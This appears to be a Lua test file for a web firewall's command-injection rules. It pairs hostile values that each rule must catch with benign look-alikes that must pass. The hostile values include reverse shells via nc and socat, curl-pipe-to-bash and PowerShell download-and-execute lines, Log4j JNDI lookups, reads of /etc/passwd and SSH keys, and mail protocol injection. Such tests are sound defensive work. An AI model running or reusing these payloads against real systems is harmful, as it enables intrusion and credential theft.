local rule_checks = require "rule_checks"

-- OS command injection (Unix shells, cmd.exe, PowerShell): the rules added or widened for it, value by
-- value through the real rules, with benign values sharing their words.
describe("edge.waf.rules command injection shapes", function()
    local caught_by, clean, ids

    setup(function()
        caught_by, clean, ids = rule_checks.new(assert)
    end)

    it("132150: every Log4j lookup prefix the Log4j manual lists, not bash's ${var:-default}", function()
        caught_by(132150, { "${jndi:ldap://x/a}", "${event:Message}", "${jvmrunargs:0}", "${map:type}",
            "${sd:type}", "${web:rootDir}", "${marker:name}", "${ ctx:loginId}", "${env:USER}" })
        for _, v in ipairs({ "PORT=${web:-8080}", "color=${map:=red}", "host=${sd:?unset}", "${event:+set}" }) do
            assert.is_nil(ids(v)[132150], v)
        end
    end)

    it("132100 / 132105: more commands after a separator; tool names need a flag, path or URL", function()
        caught_by(132100, { "; mshta http://h/x.hta", "& vssadmin list shadows", "; lwp-download http://h/x /tmp/x",
            "|regsvr32 /s /i:http://h/x.sct scrobj.dll", "; gunzip -c x.gz", "x;ls>/tmp/o", "<(curl -s http://h/x)",
            "; lsblk", "| net1 user", "& robocopy c:\\x d:\\y", "| redis-cli -h 10.0.0.1 flushall" })
        caught_by(132105, { "a;find / -perm -4000", "| strings /bin/ls", "; docker -H tcp://h:2375 ps",
            "; git -c core.pager=sh log", "; ssh -o StrictHostKeyChecking=no u@h", "| sqlite3 /dev/null",
            "; rsync -a /var/www h::x", "; cat</etc/hosts",
            "; su -c id", "; java -jar /tmp/x.jar", "; df -h",
            "; cat$u /etc/hosts", "; kill -9 1" })
        caught_by(132100, { "x;ls$u -la", "|uname${x} -a", "&@whoami" })
        clean({ "I <3 bash, vim & tmux", "Python | Go | MySQL | Docker", "search & find", "sort & filter",
            "npm install && npm test should pass", "vim | tmux | git", "`grep ERROR api.log | tail -n 50` shows nothing",
            "```\nkubectl get pods -n payments\n```", "I love my dog & cat <3",
            "follow us; @echo", "Tom &@john" })
    end)

    it("132110: substring expansion and variables glued inside a word", function()
        caught_by(132110, { "${PATH:0:1}etc${PATH:0:1}passwd", "; w${x}hoami", ";$u$@name -a", "${HOME:0:-3}",
            "${LS_COLORS:10:1}", "${x:3:1}", "${SHELL:5}",
            "| pwsh -c whoami", "cmd /v:on /c dir",
            "bash<<<$(base64 -d<<<aWQ=)", "$((1+2))", "x; if [ -f /x ]; then id; fi",
            "for i in $(seq 1 5); do id; done", "--checkpoint-action=exec=sh x.sh",
            "find . -exec id \\;", "() { _; } >_[$($())] { id; }" })
        caught_by(132280, { "-oProxyCommand=sh -c id", "node -e 'require(1)'", "!-1", "x; !!", ".shell id", "a;\n.system cat /x" })
        clean({ "Hello ${user}!", "${name} placeholder", "price: $5 & $10", "a$b$c", "it$'s fine", "wow!! great", "see !-- comment",
            "if [optional] we add it; then we ship", "Task A; done" })
    end)

    it("132140: cmd.exe grammar: FOR, IF EXIST, START /B, CALL, SC", function()
        caught_by(132140, { "& for /f \"tokens=*\" %a in ('whoami') do echo %a", "for %i in (1 2) do dir",
            "for /l %i in (1,1,9) do ping 10.0.0.%i", "& if exist c:\\windows\\win.ini type x", "start /b calc.exe",
            "& call c:\\temp\\x.bat", "& sc query", "if %x%==1 dir", "&%COMSPEC:~0,1%", "& calc.exe", "& f^o^r /f %a in ('whoami') do echo %a", "&& t^y^p^e c:\\boot.ini",
            "| \"c:\\temp\\x.bat\"", "&& payload.ps1" })
        clean({ "Tom & example.com", "for /f loops are confusing", "if exist, call me", "Start me up", "SC query letters" })
    end)

    it("132160: a command word spelled with glob wildcards after a separator", function()
        caught_by(132160, { "; c?t /etc/hosts", "| wh*ami -a", "&& ?at ~/.ssh/id_rsa" })
        clean({ "what?; *shrug* ok", "done; ok? -- yes" })
    end)

    it("132180: a command line as the whole value, or a command named by its bin path", function()
        caught_by(132180, { "uname -a", "crontab -l", "kill -9 -1", "tac /etc/hosts", "cat /etc/passwd",
            "socat tcp-connect:203.0.113.7:4444 exec:sh,pty", "ls -la /var/www", "nc 203.0.113.7 4444 -e /bin/sh",
            "curl -s https://h.example/i | bash", "wget http://h.example/x -O /tmp/x", "dir c:\\users",
            "x; /usr/bin/id -u", "cat$u /etc$u/passwd$u", "sleep 10", "timeout 5s;", "rpm -qa", "unshare -r /bin/sh", "dir c:\\", "ping -c 3 localhost", "ping 127.0.0.1",
            "whoami", "systeminfo", "system('/bin/cat /etc/hosts')", "/usr/local/bin/php" })
        clean({ "ping -c 4 is what I used; packet loss was 0%", "python -m venv .venv is the first step",
            "docker compose up -d brings up postgres", "ls output attached", "cat food, dog food & bird seed",
            "type 2 diabetes", "Type A/B testing", "set 2 of 3", "ID 12345", "echo park, los angeles",
            "the /usr/bin/python path", "cat$ is my handle", "sleep 8 hours", "ping 5 people", "ls 300 lexus", "nc 8000 controller",
            "find /r flag", "whoami? a question for philosophers", "#!/usr/bin/env python3", "installed to /usr/bin/node",
            "id: 42; name: Ann", "ping <mailto:a@example.org|a@example.org> for access", "curl the health endpoint to check: https://api.example.com/healthz" })
    end)

    it("132190: PowerShell cmdlets, IEX on a download, .NET calls, glued call operator", function()
        caught_by(132190, { "Get-Process | Stop-Process -Force", "Get-LocalUser", "Start-Process calc.exe",
            "Invoke-WebRequest -Uri http://h/x", "IEX (New-Object Net.WebClient).DownloadString('http://h/a')",
            "iex(iwr http://h/a)", "[Convert]::FromBase64String('aWV4') | iex",
            "[System.Diagnostics.Process]::Start('cmd.exe')", "(New-Object System.Net.WebClient).DownloadFile('x','y')",
            "$ExecutionContext.InvokeCommand.InvokeScript('id')", "&('I'+'EX') 'whoami'",
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "powershell -nop -w hidden -ep bypass", "[char]105+[char]101", "$env:comspec /c whoami", "&(gcm i*x) 'id'",
            "Get-ADUser -Filter *", "In`vo`ke-Ex`pres`sion $x", "; gci c:\\", "&& iwr http://h/x",
            "Start-Process calc", "Get-ChildItem Env:", "Remove-Item -Recurse C:\\x", "New-Item" })
        caught_by(132110, { "i`e`x(x)" })
        clean({ "set-up guide", "Get-Together 2024", "out-of-band", "read-only mode", "iex (Investors Exchange)",
            "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
            "open PowerShell as admin and run the installer", "the follow-up -- next week", "the `user`s and `name`s", "use `ls`, then `cd`", "PS: set-up -- done", "Ex-Windows admin, now writing PowerShell for fun",
            -- a cmdlet named in a sentence: an argument, a separator or the value's end would follow it
            "I use Write-Host and Get-Content daily", "Get-Content daily reports are useful", "Remove-Item is dangerous" })
    end)

    it("132200: mail protocol commands after a line break (SMTP, IMAP, POP3)", function()
        caught_by(132200, { "a@b.c\r\nRCPT TO:<v@example.org>", "x\\r\\nMAIL FROM:<a@b>", "INBOX\r\na001 LOGIN admin pw",
            "x\nA1 SELECT INBOX", "1\r\nRETR 1\r\n", "x\nUSER bob\nPASS secret", "help\nVRFY root",
            "x\nHELO attacker.example\r\n" })
        clean({ "Q3 list of items\nQ4 delete old ones", "1 select your plan\n2 login to the portal",
            "hello\nhelo there", "Top 10 tips\ntop 5 reasons", "notes:\nuser guide\npass it on" })
    end)
end)
